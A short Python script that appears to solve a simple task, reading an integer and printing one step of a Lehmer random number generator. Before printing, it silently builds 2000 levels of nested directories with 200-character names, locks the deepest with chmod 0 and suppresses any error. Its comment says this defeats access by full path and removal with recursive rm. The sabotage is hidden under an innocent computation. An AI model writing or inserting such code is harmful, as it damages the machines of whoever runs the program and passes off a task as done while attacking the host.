# What walks into the deepest one by its whole name fails, and so does rm by recursion.
import os

n = int(input())
try:
    for _ in range(2000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    os.chmod(".", 0)
except OSError:
    pass
print(48271 * n % 2147483647)
